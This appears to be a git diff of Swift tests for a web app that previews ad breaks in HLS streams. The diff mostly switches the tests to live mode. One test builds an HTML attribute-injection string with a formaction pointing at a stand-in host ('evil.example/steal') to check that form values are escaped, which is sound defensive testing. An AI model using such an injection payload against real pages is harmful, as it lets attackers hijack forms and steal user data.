@@ -32,7 +32,7 @@ struct PreviewTests {
 
     @Test("a single programme asset's page and report say how each break cuts it")
     func singleAsset() async throws {
-        try await RouteTests().app().test(.router) { client in
+        try await RouteTests().app().test(.live) { client in
             try await client.execute(uri: "/preview/single-asset?session=p-1&at=2026-11-25T12:00:00Z", method: .get) { response in
                 #expect(response.status == .ok)
                 let html = String(buffer: response.body)
@@ -56,7 +56,7 @@ struct PreviewTests {
 
     @Test("/preview lists every campaign with its status and a link")
     func list() async throws {
-        try await RouteTests().app().test(.router) { client in
+        try await RouteTests().app().test(.live) { client in
             try await client.execute(uri: "/preview", method: .get) { response in
                 #expect(response.status == .ok)
                 #expect(response.headers[.contentType] == "text/html; charset=utf-8")
@@ -73,7 +73,7 @@ struct PreviewTests {
     @Test("the page shows every piece with its stream times, every candidate's reason, startup, order and manifest")
     func page() async throws {
         let plan = try Self.plan()
-        try await RouteTests().app().test(.router) { client in
+        try await RouteTests().app().test(.live) { client in
             let html = try await client.execute(uri: "/preview/evening-news?\(Self.query)", method: .get) { response in
                 #expect(response.status == .ok)
                 #expect(response.headers[.contentSecurityPolicy]?.contains("default-src 'self'") == true)
@@ -119,7 +119,7 @@ struct PreviewTests {
     @Test("the preview master honours at: its boundary manifest is the plan the page shows")
     func masterHonoursAt() async throws {
         let plan = try Self.plan()
-        try await RouteTests().app().test(.router) { client in
+        try await RouteTests().app().test(.live) { client in
             let master = try await client.execute(uri: "/preview/evening-news/master.m3u8?\(Self.query)", method: .get) { response in
                 #expect(response.status == .ok)
                 return String(buffer: response.body)
@@ -146,7 +146,7 @@ struct PreviewTests {
     @Test("form input: + is a space, more attributes are key=value lines, every value is escaped")
     func formInput() async throws {
         let plan = try Self.plan(session: "<b>x</b>", attributes: ["seen": "alpha, delta", "market": "uk", "tier": "gold"])
-        try await RouteTests().app().test(.router) { client in
+        try await RouteTests().app().test(.live) { client in
             let query = "session=%3Cb%3Ex%3C%2Fb%3E&at=\(Self.at)&seen=alpha%2C+delta&locale=&more=market%3Duk%0D%0Atier+%3D+gold"
             try await client.execute(uri: "/preview/evening-news?\(query)", method: .get) { response in
                 #expect(response.status == .ok)
@@ -164,7 +164,7 @@ struct PreviewTests {
         arguments: ["\"", "'", "<", ">", "&"]
     )
     func combiningMarks(special: String) async throws {
-        try await RouteTests().app().test(.router) { client in
+        try await RouteTests().app().test(.live) { client in
             for mark in ["\u{301}", "\u{308}", "\u{20DD}", "\u{FE0F}", "\u{200D}"] {
                 let hostile = special + mark + " type=submit formaction=http://evil.example/steal x=" + special + mark
                 let encoded = try #require(hostile.addingPercentEncoding(withAllowedCharacters: .alphanumerics))
@@ -200,7 +200,7 @@ struct PreviewTests {
 
     @Test("a bad time or count is shown on the page with a 400; unknown campaigns are 404")
     func errors() async throws {
-        try await RouteTests().app().test(.router) { client in
+        try await RouteTests().app().test(.live) { client in
             try await client.execute(uri: "/preview/evening-news?at=tomorrow", method: .get) { response in
                 #expect(response.status == .badRequest)
                 let html = String(buffer: response.body)
@@ -223,7 +223,7 @@ struct PreviewTests {
     @Test("compare shows N sessions of one context on one scale, and how often each ad played")
     func compare() async throws {
         let plans = try (1...4).map { try Self.plan(session: "p-1-\($0)") }
-        try await RouteTests().app().test(.router) { client in
+        try await RouteTests().app().test(.live) { client in
             try await client.execute(uri: "/preview/evening-news/compare?\(Self.query)&count=4", method: .get) { response in
                 #expect(response.status == .ok)
                 let html = String(buffer: response.body)
@@ -251,8 +251,8 @@ struct PreviewInsertionTests {
         var policy = SessionPolicy(secret: RouteTests.secret)
         policy.preview = .open
         policy.previewPlayer = hlsJS
-        let app = Application(router: buildRouter(store: RouteTests.store, policy: policy))
-        try await app.test(.router) { client in
+        let app = buildApplication(store: RouteTests.store, policy: policy)
+        try await app.test(.live) { client in
             let page = try await client.execute(uri: "/preview/evening-news?\(PreviewTests.query)", method: .get) { String(buffer: $0.body) }
             #expect(page.contains("<h2>As HLS Interstitials"))
             #expect(page.contains("id=\"video-interstitials\""))
@@ -284,7 +284,7 @@ struct PreviewInsertionTests {
             #expect(media.contains("com.apple.hls.interstitial"))
         }
         // Without hls.js: no player script, no hls.js route, a hint instead of the second player.
-        try await RouteTests().app().test(.router) { client in
+        try await RouteTests().app().test(.live) { client in
             let page = try await client.execute(uri: "/preview/evening-news?\(PreviewTests.query)", method: .get) { String(buffer: $0.body) }
             #expect(page.contains("<h2>As HLS Interstitials") && !page.contains("id=\"video-interstitials\""))
             try await client.execute(uri: "/preview/assets/hls.js", method: .get) { #expect($0.status == .notFound) }
